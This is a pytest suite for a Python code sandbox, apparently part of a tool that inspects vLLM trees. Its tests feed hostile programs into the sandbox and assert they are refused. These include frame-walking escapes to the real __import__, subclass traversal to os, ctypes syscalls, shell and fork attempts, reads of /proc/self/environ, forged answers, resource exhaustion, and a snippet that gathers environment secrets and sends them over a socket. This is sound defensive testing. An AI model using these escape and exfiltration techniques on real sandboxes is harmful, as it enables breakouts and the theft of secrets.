"""The isolation boundary around code taken from an inspected tree.

Each hostile program is written as a hostile peer would write it: it walks
frames (a generator's ``gi_frame``, ``f_back``, ``f_builtins``) out of the
restricted builtins to the real ``__import__``, then tries to run commands,
write and read files, open sockets and leave processes behind. The Python
level is escaped (the first test proves it); the OS boundary must hold, and
the code must get no answer out: the call raises, or the run ends as a
SandboxError, which every question turns into an unknown.
"""

import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import pytest
from conftest import check_json, statuses
from escapes import WALK, hostile_tree, my_children, program_for, session_for
from measure import measured

from dflash_doctor.standalone import lockdown
from dflash_doctor.isolation.sandbox import (
    Call,
    Chunk,
    SandboxError,
    child_program,
    isolation_status,
    run,
    run_isolated,
    session,
)

DRAFTERS = Path(__file__).parent / "data" / "drafters"
QWEN36 = DRAFTERS / "qwen3.6-27b-dflash.json"
SECRET = "dflash-doctor-test-secret-5c1f"


def run_hostile(tmp_path: Path, source: str, expr: str):
    """The outcome of ``expr`` (a call of the last function in ``source``) in the sandbox."""
    chunks, globals_ = program_for(tmp_path, source)
    return run(chunks, [Call("x", expr)], {}, globals_)["x"]


def request_for(tmp_path: Path, source: str, expr: str, **limits) -> bytes:
    """A harness request as sandbox.run builds it, with lockdown limits of our own."""
    chunks, globals_ = program_for(tmp_path, source)
    return json.dumps(
        {
            "globals": globals_,
            "program": [{"name": c.name, "source": c.source} for c in chunks],
            "data": {},
            "calls": [{"id": "x", "expr": expr, "bind": {}}],
            "call_timeout_s": 1.0,
            "limits": limits,
        }
    ).encode()


def processes_with(token: str) -> list[str]:
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if token in cmdline.read_bytes().decode(errors="replace"):
                found.append(cmdline.parent.name)
        except OSError:
            continue
    return found


@pytest.fixture
def listener():
    """A TCP listener on 127.0.0.1: the test asserts no connection arrives."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    yield server
    server.close()


def nothing_arrived(server: socket.socket) -> bool:
    time.sleep(0.2)
    try:
        server.accept()[0].close()
    except BlockingIOError:
        return True
    return False


# -- the boundary is there -----------------------------------------------------------------


def test_isolation_is_in_force_on_this_machine():
    # CI is Linux x86_64 as root: the suite fails loudly if the boundary degrades.
    ok, layers = isolation_status()
    assert ok, layers
    assert "no_new_privs" in layers and "rlimits" in layers and "seccomp" in layers


@pytest.mark.parametrize(
    "arch, header, prefix, machine",
    [
        ("x86_64", "/usr/include/x86_64-linux-gnu/asm/unistd_64.h", "__NR_", "EM_X86_64"),
        ("aarch64", "/usr/include/asm-generic/unistd.h", r"__NR(?:3264)?_", "EM_AARCH64"),
    ],
)
def test_syscall_numbers_and_audit_arch_match_the_kernel_headers(arch, header, prefix, machine):
    elf = Path("/usr/include/linux/elf-em.h")
    if not Path(header).is_file() or not elf.is_file():
        pytest.skip(f"{header} or {elf} is not installed")
    text = Path(header).read_text()
    table = lockdown.ARCHES[arch]["syscalls"]
    assert set(lockdown.ALLOWED) <= set(table)
    for name, number in table.items():
        found = re.search(rf"#define {prefix}{name}\s+(\d+)\b", text)
        assert found and int(found.group(1)) == number, name
    em = int(re.search(rf"#define {machine}\s+(\d+)", elf.read_text()).group(1))
    assert lockdown.ARCHES[arch]["audit_arch"] == em | 0x80000000 | 0x40000000  # 64-bit, little-endian


def test_without_a_table_for_this_machine_the_child_says_so_and_runs_nothing(tmp_path):
    program = (
        f"import runpy; ns = runpy.run_path({str(Path(lockdown.__file__))!r}); ns['ARCHES'].clear(); "
        f"ns['lockdown'](None); open({str(tmp_path / 'ran')!r}, 'w')"
    )
    result = run_isolated(program, b"", wall_s=30, max_output_bytes=1 << 16)
    assert "LockdownError: no system call table" in result.failure()
    assert not (tmp_path / "ran").exists()


def test_the_frame_walk_does_reach_the_real_import(tmp_path):
    # The Python-level sandbox is escaped: only the OS boundary stands after this.
    outcome = run_hostile(
        tmp_path,
        """
        def escapes():
            return _module("sys").platform + " " + str(_module("sys").flags.isolated)
    """,
        "escapes()",
    )
    assert outcome.value == f"{sys.platform} 1"


# -- escapes, each refused ---------------------------------------------------------------------


def test_a_shell_command_never_runs_and_ends_the_run(tmp_path):
    marker = tmp_path / "ran"
    with pytest.raises(SandboxError, match="forbids"):
        run_hostile(
            tmp_path,
            """
            def escapes(marker):
                return _module("os").system("touch " + marker)
        """,
            f"escapes({str(marker)!r})",
        )
    assert not marker.exists()


def test_fork_and_spawn_are_refused_and_nothing_is_left_running(tmp_path):
    for index, action in enumerate(("os.fork()", "os.posix_spawn('/bin/sleep', ['sleep', '77.123'], {})")):
        with pytest.raises(SandboxError, match="forbids"):
            run_hostile(
                tmp_path / str(index),
                f"""
                def escapes():
                    os = _module("os")
                    return {action}
            """,
                "escapes()",
            )
    assert processes_with("77.123") == []
    assert my_children() == []


def test_subprocess_cannot_even_be_imported(tmp_path):
    outcome = run_hostile(
        tmp_path,
        """
        def escapes():
            return _module("subprocess").run(["sleep", "77.321"]).returncode
    """,
        "escapes()",
    )
    assert not outcome.ok and outcome.error_type in ("PermissionError", "ModuleNotFoundError", "ImportError")
    assert processes_with("77.321") == []


def test_subclasses_lead_to_os_whose_calls_are_refused(tmp_path):
    outcome = run_hostile(
        tmp_path,
        """
        def escapes():
            get = _real("getattr")
            base = get(get((), "_" + "_class__"), "_" + "_base__")
            for cls in get(base, "_" + "_subclasses__")():
                if get(cls, "_" + "_name__") == "_wrap_close":
                    return get(get(cls, "_" + "_init__"), "_" + "_globals__")["listdir"]("/")
    """,
        "escapes()",
    )
    assert outcome.error_type == "PermissionError"


def test_sys_modules_os_reads_nothing(tmp_path):
    outcome = run_hostile(
        tmp_path,
        """
        def escapes():
            return _module("sys").modules["os"].listdir("/etc")
    """,
        "escapes()",
    )
    assert outcome.error_type == "PermissionError"


def test_ctypes_system_calls_are_refused(tmp_path):
    marker = tmp_path / "made-by-ctypes"
    outcome = run_hostile(
        tmp_path,
        """
        def escapes(path):
            libc = _module("ctypes").CDLL(None)
            return libc.open(path.encode(), 0o101, 0o644)
    """,
        f"escapes({str(marker)!r})",
    )
    assert outcome.value == -1
    assert not marker.exists()
    with pytest.raises(SandboxError, match="forbids"):
        run_hostile(
            tmp_path / "2",
            """
            def escapes():
                return _module("ctypes").CDLL(None).fork()
        """,
            "escapes()",
        )


def test_no_socket_reaches_a_listener(tmp_path, listener):
    port = listener.getsockname()[1]
    outcome = run_hostile(
        tmp_path,
        """
        def escapes(port):
            conn = _module("socket").create_connection(("127.0.0.1", port))
            return conn.send(b"hello")
    """,
        f"escapes({port})",
    )
    assert not outcome.ok
    with pytest.raises(SandboxError, match="forbids"):
        run_hostile(
            tmp_path / "2",
            """
            def escapes():
                return _module("ctypes").CDLL(None).socket(2, 1, 0)
        """,
            "escapes()",
        )
    assert nothing_arrived(listener)


def test_no_file_is_written_created_or_removed(tmp_path):
    marker = tmp_path / "marker"
    keep = tmp_path / "keep"
    keep.write_text("mine")
    tmp_marker = Path("/tmp") / f"dflash-doctor-escape-{os.getpid()}"
    for action in (
        f"open({str(marker)!r}, 'w').write('escaped')",
        f"open({str(tmp_marker)!r}, 'w').write('escaped')",
        f"os.unlink({str(keep)!r})",
        f"os.rename({str(keep)!r}, {str(marker)!r})",
        f"os.mkdir({str(marker)!r})",
        f"os.symlink({str(keep)!r}, {str(marker)!r})",
    ):
        outcome = run_hostile(
            tmp_path / str(abs(hash(action))),
            f"""
            def writes():
                open, os = _real("open"), _module("os")
                return {action}
        """,
            "writes()",
        )
        assert outcome.error_type == "PermissionError", action
    assert not marker.exists() and not tmp_marker.exists()
    assert keep.read_text() == "mine"


def test_files_and_the_operators_environment_stay_unread(tmp_path, monkeypatch):
    monkeypatch.setenv("DFLASH_DOCTOR_SECRET", SECRET)
    hostname = Path("/etc/hostname").read_text().strip()
    for expr in ("read('/etc/hostname')", "read('/proc/self/environ')", "read('/proc/1/environ')"):
        outcome = run_hostile(
            tmp_path / str(abs(hash(expr))),
            """
            def read(path):
                return _real("open")(path).read()
        """,
            expr,
        )
        assert outcome.error_type == "PermissionError", expr
    outcome = run_hostile(
        tmp_path,
        """
        def environment():
            return dict(_module("os").environ)
    """,
        "environment()",
    )
    assert SECRET not in json.dumps(outcome.value)
    assert not any(key.startswith(("PYTHON", "DFLASH", "SSH", "PATH")) for key in outcome.value)
    assert hostname not in json.dumps(outcome.value)


def test_the_working_directory_is_removed_and_no_descriptor_is_inherited(tmp_path, monkeypatch):
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    secret = tmp_path / "secret"
    secret.write_text(SECRET)
    held = os.open(secret, os.O_RDONLY)
    os.set_inheritable(held, True)
    try:
        outcome = run_hostile(
            tmp_path,
            """
            def descriptors():
                os, refused = _module("os"), _real("OSError")
                found = []
                for fd in range(64):
                    try:
                        found.append([fd, os.read(fd, 0).decode()])  # 0 bytes: never waits
                    except refused:
                        pass
                return found
        """,
            "descriptors()",
        )
    finally:
        os.close(held)
    # stdin is the request pipe (the next request is sent only after this answer); stdout and stderr are
    # write-only pipes; nothing else is open.
    assert outcome.value == [[0, ""]]
    assert list(scratch.iterdir()) == []


@pytest.mark.parametrize(
    "answer",
    [
        '"[" * 100000',
        '\'{"results": {"x": 5}}\'',
        '\'{"results": {"x": {"error": {"type": ["NotImplementedError"]}}}}\'',
        "'{\"results\": []}'",
    ],
)
def test_an_answer_forged_by_the_tree_code_is_refused_not_a_crash(tmp_path, answer):
    with pytest.raises(SandboxError, match="no readable answer"):
        run_hostile(
            tmp_path,
            f"""
            def forges():
                out = _module("sys").stdout
                out.write({answer})
                out.flush()
                _module("os")._exit(0)
        """,
            "forges()",
        )


# -- bounds -----------------------------------------------------------------------------------


@pytest.mark.slow  # waits out a real deadline
def test_cpu_spin_that_swallows_the_call_timer_is_killed_by_the_cpu_limit(tmp_path):
    request = request_for(
        tmp_path,
        """
        def spins():
            everything = _real("BaseException")
            while True:
                try:
                    while True:
                        pass
                except everything:
                    pass
    """,
        "spins()",
        cpu_s=1,
    )
    start = time.monotonic()
    result = run_isolated(child_program(), request, wall_s=30, max_output_bytes=1 << 16)
    assert "CPU time limit" in result.failure()
    assert time.monotonic() - start < 10


@pytest.mark.slow  # waits out a real deadline
@pytest.mark.parametrize("prelude", ["pass", "_module('os').close(1); _module('os').close(2)"])
def test_a_child_that_blocks_without_cpu_is_killed_at_the_one_deadline(tmp_path, prelude):
    # With its outputs closed the parent sees their end early: the same deadline still holds.
    request = request_for(
        tmp_path,
        f"""
        def blocks():
            {prelude}
            everything = _real("BaseException")
            lock = _module("_thread").allocate_lock()
            lock.acquire()
            while True:
                try:
                    lock.acquire()
                except everything:
                    pass
    """,
        "blocks()",
    )
    start = time.monotonic()
    with pytest.raises(SandboxError, match="within 1.5 s"):
        run_isolated(child_program(), request, wall_s=1.5, max_output_bytes=1 << 16)
    assert time.monotonic() - start < 5
    assert my_children() == []


def test_a_memory_balloon_is_bounded_and_measured(tmp_path):
    request = request_for(
        tmp_path,
        """
        def balloons():
            held = []
            while True:
                held.append(b"x" * (1 << 20))
    """,
        "balloons()",
        memory_bytes=192 << 20,
    )
    # From a small parent: Linux gives a child the peak RSS of the process that started it as its
    # own floor, and this test process grows with every command the suite runs in process.
    proc = subprocess.run([sys.executable, "-c", BALLOON], input=request, capture_output=True, timeout=120)
    assert proc.returncode == 0, proc.stderr.decode()[-2000:]
    failure, stdout, peak = json.loads(proc.stdout)
    assert failure is None
    assert json.loads(stdout.splitlines()[-1])["results"]["x"]["error"]["type"] == "MemoryError"  # after the step lines
    assert 100 << 20 < peak < 192 << 20


BALLOON = """
import json, sys
from dflash_doctor.isolation.sandbox import child_program, run_isolated
result = run_isolated(child_program(), sys.stdin.buffer.read(), wall_s=30, max_output_bytes=1 << 16)
print(json.dumps([result.failure(), result.stdout.decode(), result.peak_rss_bytes]))
"""


FLOOD = '''
import json, resource, sys
from dflash_doctor.isolation.sandbox import Call, Chunk, SandboxError, run
source = sys.argv[1] + """
def floods():
    out = _module("sys").stdout
    while True:
        out.write("x" * 65536)
"""
try:
    run([Chunk("floods", source)], [Call("x", "floods()")], {}, {})
    error = None
except SandboxError as exc:
    error = str(exc)
print(json.dumps({"error": error, "peak": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024}))
'''


def test_an_output_flood_is_cut_at_the_cap_and_the_parent_stays_small():
    # from the small reaper: a child of the grown test process would start from its peak RSS
    proc = measured([sys.executable, "-c", FLOOD, WALK], timeout=120)
    answer = json.loads(proc.stdout)
    assert "wrote more than" in answer["error"]
    # Unbounded, the flood would reach gigabytes within the run's deadline; the parent alone is ~35 MB,
    # and a loaded machine has been seen to add transient allocations on top.
    assert answer["peak"] < 256 << 20, answer["peak"]


# -- one child per check: the session -----------------------------------------------------------


def test_a_session_is_one_child_and_each_request_has_fresh_globals(tmp_path):
    chunks, globals_ = program_for(
        tmp_path,
        """
        def defines():
            return 7
    """,
    )
    child = session_for()
    try:
        assert child.run(chunks, [Call("x", "defines()")], {}, globals_)["x"].value == 7
        pids = my_children()
        assert len(pids) == 1
        later = child.run([], [Call("y", "defines()")], {}, {})["y"]
        assert later.error_type == "NameError"  # nothing of the first request is bound in the second
        assert my_children() == pids
    finally:
        child.close()
    assert my_children() == []


@pytest.mark.slow  # waits out a real deadline
def test_a_definition_that_runs_too_long_is_a_gap_under_its_name_and_the_rest_still_answers():
    # A tree constant the interpreter cannot fold: without the call timer around each
    # statement it runs to the request's wall deadline and the whole session breaks.
    program = [
        Chunk("_X", "_X = 9 ** 9 ** 9"),
        Chunk("half", "def half():\n    return 21"),
        Chunk("reads", "def reads():\n    return _X > 0"),
    ]
    outcomes = run(program, [Call("half", "half() * 2"), Call("reads", "reads()")], {}, {})
    assert outcomes["half"].value == 42
    assert outcomes["reads"].gap == "_X (its definition did not finish within 2 s)"


@pytest.mark.release
def test_cli_a_tree_constant_that_never_finishes_leaves_only_its_reader_unknown(mini_tree):
    tree = mini_tree("0.33.0")
    speculative = tree / "vllm/config/speculative.py"
    text = speculative.read_text()
    decides = "        return self.needs_eagle_block_drop() and not self.disable_eagle_block_drop\n"
    assert text.count(decides) == 1
    speculative.write_text(
        text.replace(decides, decides.replace("return ", "return _X > 0 and ")) + "\n_X = 9 ** 9 ** 9\n"
    )
    code, report = check_json("--path", str(tree), env={**os.environ, "DFLASH_DOCTOR_NO_CACHE": "1"})
    assert code == 2, report
    fixes = {fix["id"]: fix for fix in report["fixes"]}
    assert fixes["cache-drop"]["status"] == "unknown"
    assert (
        "reads _X (its definition did not finish within 2 s), which running the tree's code cannot know"
        in fixes["cache-drop"]["reason"]
    )
    # The session did not break: the checks that never read _X still answer, by behaviour.
    assert {fixes[id]["status"] for id in ("layer-offset", "swa-config")} == {"present"}
    assert {fixes[id]["decided_by"] for id in ("layer-offset", "swa-config")} == {"behaviour"}


def test_a_child_that_cannot_start_leaves_every_request_unknown_not_a_crash(monkeypatch, tmp_path):
    monkeypatch.setattr(sys, "executable", str(tmp_path / "no-python"))
    with session() as ask:  # opening the check's session does not raise: its requests do, as SandboxError
        for _ in range(2):
            with pytest.raises(SandboxError, match="could not start"):
                ask([], [Call("x", "6 * 7")], {}, {})


@pytest.mark.slow  # waits out a real deadline
def test_a_request_that_hangs_is_killed_and_the_later_ones_are_unknown_with_the_reason(tmp_path):
    chunks, globals_ = program_for(
        tmp_path,
        """
        def blocks():
            everything = _real("BaseException")
            lock = _module("_thread").allocate_lock()
            lock.acquire()
            while True:
                try:
                    lock.acquire()
                except everything:
                    pass
    """,
    )
    child = session_for(wall_s=1.5)
    start = time.monotonic()
    try:
        with pytest.raises(SandboxError, match="^the behaviour child did not finish within 1.5 s"):
            child.run(chunks, [Call("x", "blocks()")], {}, globals_)
        assert my_children() == []  # killed at the deadline, not at the session's end
        with pytest.raises(SandboxError, match="stopped at an earlier request of this check: .*within 1.5 s"):
            child.run([], [Call("y", "6 * 7")], {}, {})
    finally:
        child.close()
    assert time.monotonic() - start < 5


def test_an_answer_forged_ahead_for_a_later_request_is_refused(tmp_path):
    # The tree code finds its own request's nonce up the stack and answers it; while the parent sends the
    # next request, it writes an answer for that one: it cannot carry a nonce it has not seen.
    chunks, globals_ = program_for(
        tmp_path,
        """
        def forges():
            box = []

            def walk():
                yield box[0].gi_frame.f_back

            box.append(walk())
            frame = next(box[0])
            while "request" not in frame.f_locals:
                frame = frame.f_back
            mine = frame.f_locals["request"]["id"]
            out, clock = _module("sys").stdout, _module("time")
            out.write('{"id": "%s", "results": {"x": {"value": 1}}}\\n' % mine)
            out.flush()
            until = clock.monotonic() + 0.5
            while clock.monotonic() < until:
                pass
            out.write('{"id": "%s", "results": {"y": {"value": 666}}}\\n' % ("0" * 32))
            out.flush()
            return 2
    """,
    )
    child = session_for()
    try:
        # Its own answer is taken: an answer is only ever as true as the request's own tree code.
        assert child.run(chunks, [Call("x", "forges()")], {}, globals_)["x"].value == 1
        with pytest.raises(SandboxError, match="no readable answer"):
            child.run([], [Call("y", "6 * 7")], {}, {})
        with pytest.raises(SandboxError, match="stopped at an earlier request"):
            child.run([], [Call("z", "6 * 7")], {}, {})
    finally:
        child.close()


def test_the_output_cap_holds_across_the_requests_of_a_session(tmp_path):
    chunks, globals_ = program_for(
        tmp_path,
        """
        def chatters():
            err = _module("sys").stderr
            err.write("x" * 600000)
            err.flush()
            return 1
    """,
    )
    child = session_for(max_output_bytes=1 << 20)
    try:
        assert child.run(chunks, [Call("x", "chatters()")], {}, globals_)["x"].value == 1
        with pytest.raises(SandboxError, match=f"wrote more than {1 << 20} bytes"):
            child.run(chunks, [Call("x", "chatters()")], {}, globals_)
    finally:
        child.close()
    assert my_children() == []


# -- end to end: a real 0.33.0 tree whose resolver escapes ------------------------------------------


@pytest.mark.release
def test_cli_a_resolver_that_runs_commands_leaves_no_trace_and_the_probes_are_unknown(mini_tree, release, tmp_path):
    marker = tmp_path / "pwned"
    tree = hostile_tree(mini_tree, f'os_module.system("touch {marker}; sleep 300 # 77.999")\n')
    code, report = check_json(
        "--path", str(tree), "--draft-config", str(QWEN36), env={**os.environ, "DFLASH_DOCTOR_SECRET": SECRET}
    )
    # Not a crash (3), not a fix verdict (1): the fixes are there and nothing escaped to change that.
    assert code in (0, 2), report
    assert statuses(report)["layer-offset"] in ("present", "unknown")
    probes = report["probes"]
    assert probes["aux_layer_ids"] is None
    assert "forbids" in probes["reason"]["aux_layer_ids"]
    assert not marker.exists()
    assert processes_with("77.999") == []


@pytest.mark.release
def test_cli_a_resolver_that_exfiltrates_gets_nothing_out(mini_tree, release, tmp_path, listener):
    port = listener.getsockname()[1]
    tree = hostile_tree(
        mini_tree,
        textwrap.dedent(f"""
        loot = repr(dict(os_module.environ))
        loot += real["open"]("/etc/hostname").read()
        real["open"]("{tmp_path / "loot"}", "w").write(loot)
        real["_" + "_import__"]("socket").create_connection(("127.0.0.1", {port})).sendall(loot.encode())
        return tuple(len(loot) for _ in range(5))
    """),
    )
    code, report = check_json(
        "--path", str(tree), "--draft-config", str(QWEN36), env={**os.environ, "DFLASH_DOCTOR_SECRET": SECRET}
    )
    assert code in (0, 2), report
    text = json.dumps(report)
    assert SECRET not in text and Path("/etc/hostname").read_text().strip() not in text
    probes = report["probes"]
    assert probes["aux_layer_ids_by_runner"]["v1"] == "unknown"
    assert "PermissionError" in json.dumps(probes["reason"])
    assert not (tmp_path / "loot").exists()
    assert nothing_arrived(listener)


@pytest.mark.slow  # waits out a real deadline
def test_a_branch_whose_other_way_runs_out_of_time_is_a_timeout_not_an_answer():
    """Run both ways, one way of an unknown branch loops: the call is a timeout (which the
    results cache never keeps), not the other way's value nor a plain gap."""
    source = "def f(flag):\n    if flag:\n        while True:\n            pass\n    return 1\n"
    outcomes = run([Chunk("f", source)], [Call("x", "f(unknown)", (("unknown", {"$gap": "the deployment"}),))], {}, {})
    assert outcomes["x"].timeout, outcomes["x"]
